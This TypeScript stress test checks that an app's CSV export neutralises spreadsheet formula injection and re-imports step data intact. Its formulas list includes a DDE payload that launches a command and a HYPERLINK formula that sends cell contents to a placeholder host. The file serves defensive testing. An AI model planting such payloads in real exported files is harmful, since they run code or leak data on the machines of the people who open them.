import { parse } from 'csv-parse/sync';
import { jsonEqual } from '../shared/base/json.ts';
import type { Document, DocumentRecord } from '../shared/documents/document.ts';
import { exportCsv } from '../shared/exchange/csv/export-csv.ts';
import { importForeign } from '../shared/exchange/import-foreign.ts';
import { funnelOf, newFunnelHeader } from '../shared/funnels/new-funnel.ts';
import { newStep } from '../shared/funnels/new-records.ts';
import { sizeOf } from './options.ts';
import { type RandomSource, randomSource } from './random-source.ts';
import type { StressRun } from './stress-run.ts';

/** Cells that are filled in each step of a file. */
const inStep = 5;
const stepsOfFile = 100;

const formulas = [
  '=1+1',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://x.invalid?"&A1,"see")',
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  ' =1',
  '\u00a0=1',
  '\u3000=1',
  '\ufeff=1',
  '\u200b=1',
  "'=1",
  "''=1",
  '"=1',
  '""=1',
];
const pieces = [
  ';',
  ',',
  '|',
  '\t',
  '\n',
  '\r',
  '\r\n',
  '"',
  '""',
  "'",
  ' ',
  '=',
  '+',
  '-',
  '@',
  'a',
  '1',
  'é',
  '🙂',
  'Step',
  '\u202e',
];

/**
 * Steps whose every text is a formula or hides one, written as CSV, looked at as spreadsheets with any delimiter see it, and imported
 * again. The mutation takes the apostrophes out of the file.
 */
export const csvFormulas: StressRun = {
  promise: 'spreadsheet formulas are inert and come back equal',
  start: async ({ seed, mutate, options, print }) => {
    const cells = sizeOf(options, 'cells', 5_000);
    const random = randomSource(seed);
    let live = 0;
    let equal = 0;
    let written = 0;
    while (written < cells) {
      const steps = Math.min(stepsOfFile, Math.ceil((cells - written) / inStep));
      const document = hostileFunnel(steps, random);
      const text = exportCsv(document);
      const file = mutate ? text.replaceAll(/(?<=["';,|\t\r\n])'+/g, '') : text;
      live += liveCells(file, print);
      const imported = importForeign('Steps.csv', file, random.id);
      equal += imported.ok ? inStep * equalSteps(document, imported.value.document) : 0;
      written += steps * inStep;
    }
    const share = Math.floor((equal / written) * 10_000) / 100;
    return {
      line: `csv-formulas cells=${written} live=${live} roundTrip=${share}%`,
      holds: live === 0 && equal === written && written >= cells,
    };
  },
};

function hostileFunnel(many: number, random: RandomSource): Document {
  const steps = Array.from({ length: many }, (_, index) =>
    newStep(
      {
        name: `${hostileText(random)}${index}`,
        order: index + 1,
        stageType: hostileText(random),
        description: hostileText(random),
        successCriteria: { event: hostileText(random) },
        variantName: hostileText(random),
      },
      random.id,
    ),
  );
  return funnelOf(random.id(), newFunnelHeader('Steps'), steps);
}

function hostileText(random: RandomSource): string {
  const some = () => Array.from({ length: random.below(4) }, () => random.pick(pieces) ?? '').join('');
  const formula = random.pick(formulas) ?? '=1';
  return random.chance(0.4) ? formula : `${some()}${formula}${some()}${random.pick(formulas) ?? ''}`;
}

/**
 * What a program that opens the file would calculate, whatever delimiter it was told and whether it knows quotes. Where it reads the file
 * right, not even a tab or a carriage return may stand in front.
 */
function liveCells(file: string, print: (text: string) => void): number {
  const right = cellsOf(file, ',');
  const wrong = [';', '\t', '|'].flatMap((delimiter) => cellsOf(file, delimiter));
  const live = [
    ...right.filter((cell) => /^[\t\r]/.test(cell)),
    ...[...right, ...wrong, ...file.split(/[,;|\t\r\n"]/)].filter(wouldCalculate),
  ];
  if (live.length > 0) print(`live: ${live.length}, such as ${JSON.stringify(live[0]).slice(0, 120)}`);
  return live.length;
}

function cellsOf(file: string, delimiter: string): string[] {
  return parse(file, {
    delimiter,
    bom: true,
    relax_quotes: true,
    relax_column_count: true,
    skip_empty_lines: true,
  }).flat();
}

/** Programs skip blanks and signs that cannot be seen, and fold full-width signs. Written apart from what neutralises. */
function wouldCalculate(cell: string): boolean {
  const seen = cell.normalize('NFKC').replaceAll(/^[\s\p{Cf}]+/gu, '');
  return ['=', '+', '-', '@'].includes(seen.charAt(0));
}

/** How many steps came back as they were: the ids are new, for it is another funnel. */
function equalSteps(before: Document, after: Document): number {
  const there = stepsOf(after);
  return stepsOf(before).filter((step, index) => jsonEqual({ ...step, id: '' }, { ...there[index], id: '' }))
    .length;
}

function stepsOf(document: Document): DocumentRecord[] {
  return Object.values(document.records)
    .filter(({ kind }) => kind === 'step')
    .toSorted((a, b) => Number(a['order']) - Number(b['order']));
}
